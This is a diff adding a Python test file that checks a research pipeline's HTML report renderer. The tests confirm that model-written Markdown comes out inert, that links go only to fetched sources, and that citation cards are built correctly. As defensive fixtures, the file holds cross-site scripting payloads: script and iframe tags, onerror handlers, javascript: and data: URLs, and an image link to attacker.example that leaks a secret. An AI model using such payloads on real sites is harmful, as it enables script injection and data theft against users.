@@ -1,0 +1,173 @@
+"""Report rendering: untrusted Markdown becomes inert HTML, links go only to fetched sources, citations open quotes."""
+from __future__ import annotations
+
+from html.parser import HTMLParser
+from urllib.parse import unquote
+
+import pytest
+
+from pipeline.render import (Evidence, markdown_html, notes_html, report_html, report_title, safe_href,
+                             sources_html, text_fragment_url)
+from pipeline.schema import Conflict, Finding, Problem, Report, RunResult, Source
+
+OUR_TAGS = {"style", "div", "p", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "table", "thead",
+            "tbody", "tr", "th", "td", "hr", "pre", "code", "strong", "em", "span", "a", "br"}
+HOSTILE = ('<script>window.__pwned=1</script> <img src=x onerror="window.__pwned=2"> '
+           '![x](http://attacker.example/?q=secret) [click](javascript:alert(1)) '
+           '<iframe src="http://attacker.example/frame"></iframe> <http://attacker.example/auto> '
+           'http://attacker.example/bare [F1](http://attacker.example/cite)')
+SOURCE_URL = "https://docs.example.com/pricing?plan=cloud"
+
+
+class Tags(HTMLParser):
+    """Every start tag with its attributes, and the visible text."""
+
+    def __init__(self, html: str):
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.text: list[str] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text.append(data)
+
+    def hrefs(self) -> list[str]:
+        return [a["href"] or "" for t, a in self.tags if t == "a"]
+
+
+def run(markdown: str, quote: str = "Qdrant Cloud pricing starts at 25 dollars per month.") -> RunResult:
+    src = Source(id="S1", url=SOURCE_URL, final_url=SOURCE_URL, title="Qdrant <b>pricing</b>", published="2025-01-15",
+                 fetched_at="2025-02-01T10:00:00+00:00", sha256="0" * 64, chars=500)
+    other = Source(id="S2", url="http://127.0.0.1:9/x", final_url="javascript:alert(1)", title=None, published=None,
+                   fetched_at="2025-02-01T10:00:00+00:00", sha256="1" * 64, chars=10)
+    findings = [Finding(id="F1", sub_question="Q1", source="S1", claim="c", quote=quote, start=0, end=len(quote),
+                        support="supported", confidence="high"),
+                Finding(id="F2", sub_question="Q1", source="S2", claim="c2", quote="A quote from a page " + HOSTILE,
+                        start=0, end=5)]
+    return RunResult(run_id="r1", question="q?", mode="fixed", status="partial", sources=[src, other],
+                     findings=findings, report=Report(markdown=markdown, gaps=["What is <b>enterprise</b> pricing?"],
+                                                      conflicts=[Conflict(description="Disagree <img src=x>",
+                                                                          findings=["F1", "F2"])]),
+                     problems=[Problem(kind="uncited", message="no cite <script>x</script>",
+                                       sentence="![y](http://attacker.example/p)")])
+
+
+def assert_inert(html: str) -> Tags:
+    parsed = Tags(html)
+    for tag, attrs in parsed.tags:
+        assert tag in OUR_TAGS, f"unexpected tag <{tag}>"
+        assert not any(k.startswith("on") or k in ("src", "srcset", "style", "formaction") for k in attrs), attrs
+    for href in parsed.hrefs():
+        assert href.startswith(SOURCE_URL), f"link to something that was not fetched: {href}"
+    assert "attacker.example" not in " ".join(v or "" for _, a in parsed.tags for v in a.values())
+    return parsed
+
+
+def test_hostile_report_and_quote_render_as_text_with_links_only_to_fetched_sources() -> None:
+    rr = run(f"# Title <script>alert(1)</script>\n\nIntro {HOSTILE} [F1].\n\n- item {HOSTILE} [F2]\n")
+    html = report_html(rr) + notes_html(rr)
+    parsed = assert_inert(html)
+    text = "".join(parsed.text)
+    for shown in ("<script>window.__pwned=1</script>", '<img src=x onerror="window.__pwned=2">',
+                  "![x](http://attacker.example/?q=secret)", "[click](javascript:alert(1))",
+                  '<iframe src="http://attacker.example/frame"></iframe>', "<http://attacker.example/auto>",
+                  "Qdrant <b>pricing</b>", "What is <b>enterprise</b> pricing?", "no cite <script>x</script>"):
+        assert shown in text
+    assert parsed.hrefs(), "the fetched source should still be linked"
+
+
+def test_citation_card_holds_quote_title_date_and_a_text_fragment_link() -> None:
+    ev = Evidence.of(run("x"))
+    html = markdown_html("Qdrant costs 25 dollars [F1].", ev)
+    parsed = assert_inert(html)
+    cite = next(a for t, a in parsed.tags if t == "span" and a.get("data-cite") == "F1")
+    assert cite.get("tabindex") == "0"
+    text = "".join(parsed.text)
+    assert "“Qdrant Cloud pricing starts at 25 dollars per month.”" in text
+    assert "Qdrant <b>pricing</b>" in text and "2025-01-15" in text and "support supported" in text
+    (href,) = parsed.hrefs()
+    assert href.startswith(SOURCE_URL + "#:~:text=")
+    assert unquote(href.split(":~:text=")[1]) == "Qdrant Cloud pricing starts at 25 dollars per month."
+    link = next(a for t, a in parsed.tags if t == "a")
+    assert link["target"] == "_blank" and "noopener" in (link["rel"] or "") and "noreferrer" in (link["rel"] or "")
+
+
+def test_a_source_whose_address_is_not_http_gets_no_link() -> None:
+    html = markdown_html("See [F2].", Evidence.of(run("x")))
+    parsed = assert_inert(html)
+    assert parsed.hrefs() == [] and "not a web page" in "".join(parsed.text)
+
+
+def test_groups_unknown_ids_gaps_and_calculations() -> None:
+    rr = run("x")
+    html = markdown_html("Both [F1, F2]; not known [F9]; gap [G1].", Evidence.of(rr))
+    parsed = Tags(html)
+    cites = [(a.get("data-cite"), a.get("class")) for t, a in parsed.tags if t == "span" and a.get("data-cite")]
+    assert cites == [("F1", "vb-cite vb-finding"), ("F2", "vb-cite vb-finding"), ("F9", "vb-cite vb-unknown"),
+                     ("G1", "vb-cite vb-gap")]
+    text = "".join(parsed.text)
+    assert "F9 does not match anything" in text and "What is <b>enterprise</b> pricing?" in text
+
+
+def test_markdown_links_only_to_fetched_sources_become_links() -> None:
+    ev = Evidence.of(run("x"))
+    html = markdown_html(f"[the docs]({SOURCE_URL}) and [elsewhere](https://other.example/) and "
+                         f"{SOURCE_URL.replace('https', 'HTTPS')} bare", ev)
+    parsed = assert_inert(html)
+    assert parsed.hrefs() == [SOURCE_URL, SOURCE_URL]
+    assert "[elsewhere](https://other.example/)" in "".join(parsed.text)
+
+
+def test_markdown_subset_structure_and_escapes() -> None:
+    md = ("## Heading\n\nSome **bold**, *em*, _em too_, `co<de>` and \\*not em\\* and snake_case_name.\n\n"
+          "- one\n- two\n  continued\n  - nested\n1. first\n\n> quoted <b>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---\n"
+          "```\n<script>raw</script>\n```\n")
+    html = markdown_html(md, Evidence())
+    assert_inert(html)
+    assert "<h3>Heading</h3>" in html
+    assert "<strong>bold</strong>" in html and "<em>em</em>" in html and "<em>em too</em>" in html
+    assert "<code>co&lt;de&gt;</code>" in html and "*not em*" in html and "snake_case_name" in html
+    assert "<ul><li>one</li><li>two continued<ul><li>nested</li></ul></li></ul><ol><li>first</li></ol>" in \
+        html.replace("\n", "")
+    assert "<blockquote>quoted &lt;b&gt;</blockquote>" in html
+    assert "<th>a</th>" in html and "<td>2</td>" in html and "<hr>" in html
+    assert "<pre><code>&lt;script&gt;raw&lt;/script&gt;</code></pre>" in html
+
+
+def test_sources_section_comes_from_the_data_not_the_models_text() -> None:
+    rr = run("Body [F1].\n\n## Sources\n\n- [F1] [evil](http://attacker.example/) <img src=x>\n")
+    html = sources_html(rr)
+    parsed = assert_inert(html)
+    assert "attacker.example" not in html
+    assert "“Qdrant Cloud pricing starts at 25 dollars per month.”" in "".join(parsed.text)
+    assert [a.get("id") for t, a in parsed.tags if t == "li"] == ["vb-src-F1"]  # only cited findings
+
+
+def test_report_title_and_body_without_it() -> None:
+    rr = run("# Qdrant \\[pricing\\] <x>\n\n_label_\n\nBody [F1].")
+    assert report_title(rr) == "Qdrant [pricing] <x>"
+    assert "Qdrant" not in report_html(rr, title=False).split("vb-report")[1].split("<p>")[0]
+    assert report_title(run("No heading [F1].")) == "q?"
+
+
+@pytest.mark.parametrize("url,ok", [
+    ("https://example.com/a?b=1#c", True), ("http://127.0.0.1:8080/x", True), ("javascript:alert(1)", False),
+    ("data:text/html,<script>", False), ("https://user:pw@example.com/", False), ("https://exa mple.com/", False),
+    ("//example.com/x", False), ("https://example.com/\nx", False), ("", False), ("vbscript:x", False)])
+def test_safe_href(url: str, ok: bool) -> None:
+    assert (safe_href(url) is not None) is ok
+
+
+def test_text_fragment_encodes_its_syntax_and_shortens_long_quotes() -> None:
+    url = text_fragment_url("https://e.com/p#sec", "Prices rose 5-10%, then fell & stayed")
+    assert url.startswith("https://e.com/p#sec:~:text=")
+    directive = url.split(":~:text=")[1]
+    assert "-" not in directive and "," not in directive and "&" not in directive and " " not in directive
+    assert unquote(directive) == "Prices rose 5-10%, then fell & stayed"
+    long = " ".join(f"w{i}" for i in range(30))
+    start, end = text_fragment_url("https://e.com/", f"“{long}.”").split(":~:text=")[1].split(",")
+    assert unquote(start) == "w0 w1 w2 w3 w4" and unquote(end) == "w25 w26 w27 w28 w29."
+    assert text_fragment_url("https://e.com/#:~:text=old", "new words").endswith("#:~:text=new%20words")
